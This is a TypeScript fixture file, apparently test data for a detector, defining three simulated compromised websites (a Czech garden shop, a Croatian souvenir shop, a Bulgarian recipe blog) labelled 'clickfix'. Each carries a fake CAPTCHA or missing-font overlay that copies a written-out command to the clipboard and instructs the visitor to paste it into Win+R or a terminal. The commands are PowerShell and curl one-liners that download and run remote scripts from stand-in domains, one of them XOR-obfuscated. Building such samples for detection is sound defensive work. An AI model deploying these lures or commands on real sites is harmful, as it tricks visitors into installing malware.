import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, xorList } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'www.zahradnictvi-kvetina.cz';
  const inj = 'wp-cdn-jquery.com';
  const cmd = `powershell -w h -nop -c "iex(iwr -useb 'https://${inj}/v/verify.ps1')" # ✅ Nejsem robot – ověřovací ID: 7714-2290`;
  const overlay = `(function(){
if(sessionStorage.getItem('cfv'))return;
var st=document.createElement('style');st.textContent='#cfo{position:fixed;inset:0;background:#f9f9f9;z-index:999999;font-family:-apple-system,Segoe UI,Arial,sans-serif;color:#313131}#cfo .in{max-width:640px;margin:12vh auto;padding:0 20px}#cfo h1{font-size:30px;font-weight:500}#cfo .box{display:flex;align-items:center;gap:14px;border:1px solid #e0e0e0;background:#fff;padding:18px;width:300px;border-radius:4px;cursor:pointer}#cfo .cb{width:26px;height:26px;border:2px solid #666;border-radius:3px}#cfo .steps{display:none;border:1px solid #e0e0e0;background:#fff;padding:20px;margin-top:18px;border-radius:4px}#cfo kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}';
document.head.appendChild(st);
var o=document.createElement('div');o.id='cfo';
o.innerHTML='<div class="in"><h1>'+location.hostname+'</h1><p>Ověřte, že jste člověk. Kontrola bezpečnosti připojení může chvíli trvat.</p><div class="box" id="cfb"><div class="cb"></div><span>Nejsem robot</span></div>'+
'<div class="steps" id="cfs"><b>Dokončete ověření:</b><ol><li>Stiskněte klávesu <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Do okna Spustit vložte <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Potvrďte klávesou <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#777">Ověřovací kód byl zkopírován do schránky.</p></div>'+
'<p style="font-size:12px;color:#999;margin-top:40px">Ray ID: 8f2a'+Math.random().toString(16).slice(2,10)+' · Výkon a zabezpečení</p></div>';
document.body.appendChild(o);
document.getElementById('cfb').onclick=function(){var c=${JSON.stringify(cmd)};
if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(c).catch(function(){})}else{var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()}
this.querySelector('.cb').style.background='#2c7be5';document.getElementById('cfs').style.display='block';
fetch('https://${inj}/v/log?h='+location.hostname).catch(function(){})};
})();`;
  const shop = page({ lang: 'cs', title: 'Zahradnictví Květina – Trvalky, keře a osivo', head: favicon('#3a7d2c', 'K'),
    css: `${baseCss}body{font-family:"Trebuchet MS",Arial,sans-serif}header{background:#3a7d2c;color:#fff;padding:16px 30px;display:flex;align-items:center}header nav{margin-left:auto;display:flex;gap:18px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:16px;max-width:1100px;margin:24px auto;padding:0 16px}.p{border:1px solid #e5e5e5;border-radius:6px;padding:12px}.p .i{height:140px;background:#e8f3e3;border-radius:4px}.p b{color:#3a7d2c}`,
    body: `<header><b style="font-size:22px">🌿 Zahradnictví Květina</b><nav><span>Trvalky</span><span>Keře</span><span>Osivo</span><span>Košík (0)</span></nav></header>
<div class="g"><div class="p"><div class="i"></div><h4>Levandule úzkolistá 'Hidcote'</h4><b>89 Kč</b></div><div class="p"><div class="i"></div><h4>Hortenzie latnatá 'Limelight'</h4><b>349 Kč</b></div><div class="p"><div class="i"></div><h4>Rajče 'Stupické polní rané' – osivo</h4><b>29 Kč</b></div><div class="p"><div class="i"></div><h4>Borůvka kanadská 'Bluecrop'</h4><b>219 Kč</b></div></div>
<p style="text-align:center;color:#777;font-size:13px">Zahradnictví Květina s.r.o. · Olomoucká 118, Prostějov · Tel. 582 330 114</p>`,
    scripts: `<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>\n<script src="https://${inj}/jquery-3.7.1.min.js"></script>` });
  return {
    id: 'yd-clickfix-cz-garden-shop-captcha', label: 'clickfix', kind: 'clickfix-hacked-shop',
    url: `https://${host}/`,
    body: shop,
    routes: {
      [`${inj}/jquery-3.7.1.min.js`]: jsRoute(overlay),
      [`${host}/wp-includes/js/jquery/jquery.min.js`]: jsRoute('/*! jQuery v3.7.1 | (c) OpenJS Foundation */window.jQuery=window.$=function(s){return document.querySelectorAll(s)};'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'www.obrt-dalmacija-suveniri.hr';
  const cmd = `cmd /c "curl -s -o %TEMP%\\r.cmd https://dalm-img-cdn.com/r && %TEMP%\\r.cmd" :: reCAPTCHA potvrda #44910`;
  const encCmd = xorList(cmd, 'k7');
  const body = `<div class="top"><b>Dalmacija Suveniri</b><span>Ručno rađeni suveniri iz Splita</span></div>
<div class="grid"><div class="it">Lavandin sapun, 100 g<br><b>4,90 €</b></div><div class="it">Maslinovo ulje Brač, 0,5 l<br><b>14,00 €</b></div><div class="it">Licitar srce<br><b>6,50 €</b></div><div class="it">Keramička pločica Split<br><b>9,90 €</b></div></div>
<div id="rc" style="position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:99">
<div style="background:#fff;width:380px;border-radius:4px;box-shadow:0 4px 20px rgba(0,0,0,.4);font-family:Roboto,Arial,sans-serif">
<div style="background:#4a90e2;color:#fff;padding:18px"><div style="font-size:14px">Potvrdite da niste robot</div><div style="font-size:22px;font-weight:500">Sigurnosna provjera</div></div>
<div id="rs1" style="padding:20px"><label style="display:flex;gap:12px;align-items:center;border:1px solid #d3d3d3;padding:14px;background:#f9f9f9;cursor:pointer" id="chk"><span style="width:24px;height:24px;border:2px solid #c1c1c1;background:#fff;display:inline-block"></span>Nisam robot<span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privatnost - Uvjeti</span></label></div>
<div id="rs2" style="padding:20px;display:none;font-size:15px"><b>Koraci za provjeru:</b><ol style="line-height:1.9"><li>Pritisnite tipke <b>Windows + R</b></li><li>U prozoru pritisnite <b>CTRL + V</b></li><li>Pritisnite <b>Enter</b> za dovršetak</li></ol><button onclick="document.getElementById('rc').remove()" style="background:#4a90e2;color:#fff;border:0;padding:10px 22px;float:right;margin-bottom:14px">Provjeri</button><div style="clear:both"></div></div></div></div>`;
  const js = `<script>
(function(){var d=[${encCmd}],k='k7',s='';for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^k.charCodeAt(i%2));
document.getElementById('chk').addEventListener('click',function(){var t=document.createElement('textarea');t.value=s;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(e){}t.remove();
document.getElementById('rs1').style.display='none';document.getElementById('rs2').style.display='block'});})();
</script>`;
  return {
    id: 'yd-clickfix-hr-souvenir-recaptcha', label: 'clickfix', kind: 'clickfix-hacked-shop',
    url: `https://${host}/trgovina/`,
    body: page({ lang: 'hr', title: 'Dalmacija Suveniri – Web trgovina', css: `${baseCss}body{font-family:Arial,sans-serif}.top{background:#0d4f8b;color:#fff;padding:18px 30px;display:flex;gap:20px;align-items:center}.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:14px;max-width:1000px;margin:24px auto}.it{border:1px solid #eee;padding:60px 12px 12px;border-radius:6px;background:linear-gradient(#f2f6fa 0 50%,#fff 50%)}`, body, scripts: js }),
  } satisfies Entry;
})(),

(() => {
  const host = 'gotvarski-receptite.bg';
  const inj = 'static-fonts-bg.com';
  const cmd = `conhost.exe --headless powershell -ep bypass -w 1 -c "$u='https://${inj}/f/font.dat';iex([Text.Encoding]::UTF8.GetString((iwr $u -UseBasicParsing).Content))"`;
  const loader = `(function(){
var m=document.createElement('div');m.style.cssText='position:fixed;top:0;left:0;right:0;background:#fff;border-bottom:3px solid #d93025;z-index:99999;padding:24px;font-family:Arial,sans-serif;box-shadow:0 4px 14px rgba(0,0,0,.2)';
m.innerHTML='<div style="max-width:760px;margin:auto"><h2 style="margin:0 0 8px;color:#d93025">Шрифтът „HumanSans Cyrillic“ не беше намерен</h2><p>Страницата не може да се покаже правилно, защото на вашия компютър липсва необходимият шрифт. Натиснете „Поправи“, за да го инсталирате.</p><button id="fx" style="background:#1a73e8;color:#fff;border:0;padding:10px 24px;border-radius:4px;font-size:15px">Поправи</button><div id="fi" style="display:none;margin-top:14px;background:#f1f3f4;padding:14px;border-radius:4px">1. Натиснете <b>Win + X</b> и изберете <b>Терминал</b><br>2. Поставете с <b>Ctrl + V</b><br>3. Натиснете <b>Enter</b></div></div>';
document.body.appendChild(m);document.body.style.filter='';document.querySelectorAll('p,h1,h2').forEach(function(e){if(!m.contains(e))e.style.fontFamily='Wingdings'});
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(${JSON.stringify(cmd)}).then(function(){document.getElementById('fi').style.display='block'})};})();`;
  const site = page({ lang: 'bg', title: 'Баница със сирене – класическа рецепта | Готварски рецепти', css: `${baseCss}body{font-family:Georgia,serif;color:#333}.w{max-width:760px;margin:30px auto;padding:0 16px}h1{font-size:34px}ul li{margin:4px 0}`,
    body: `<div class="w"><h1>Баница със сирене – класическа рецепта</h1><p>Хрупкава, ароматна и точно като на баба. Тази баница е любима на цялото семейство.</p><h2>Продукти</h2><ul><li>1 пакет кори за баница</li><li>400 г сирене</li><li>4 яйца</li><li>1 кофичка кисело мляко</li><li>1/2 ч.ч. олио</li><li>1 ч.л. сода бикарбонат</li></ul><h2>Начин на приготвяне</h2><p>Разбийте яйцата с киселото мляко, в което предварително сте сложили содата. Натрошете сиренето…</p></div>`,
    scripts: `<script src="https://${inj}/css2/family=HumanSans.js" defer></script>` });
  return {
    id: 'yd-clickfix-bg-recipe-missing-font', label: 'clickfix', kind: 'clickfix-fake-error',
    url: `https://${host}/banitsa-sas-sirene`,
    body: site,
    routes: { [`${inj}/css2/family=HumanSans.js`]: jsRoute(loader) },
  } satisfies Entry;
})(),
];
